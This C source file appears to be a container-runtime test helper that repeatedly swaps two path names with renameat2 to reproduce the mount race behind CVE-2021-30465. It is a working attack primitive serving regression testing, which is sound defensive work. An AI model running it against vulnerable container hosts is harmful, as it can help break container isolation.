// SPDX-License-Identifier: LGPL-2.1-or-later
/* attack-swap A B: exchange the two names until killed, as a container does that shares a volume (CVE-2021-30465). */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <sys/prctl.h>
#include <signal.h>
#include <time.h>

int main(int argc, char **argv)
{
	const struct timespec pause = { .tv_nsec = 20000 };

	if (argc != 3)
		return 2;
	prctl(PR_SET_PDEATHSIG, SIGKILL);
	for (;;) {
		if (renameat2(AT_FDCWD, argv[1], AT_FDCWD, argv[2], RENAME_EXCHANGE) < 0)
			return 1;
		nanosleep(&pause, NULL);
	}
}
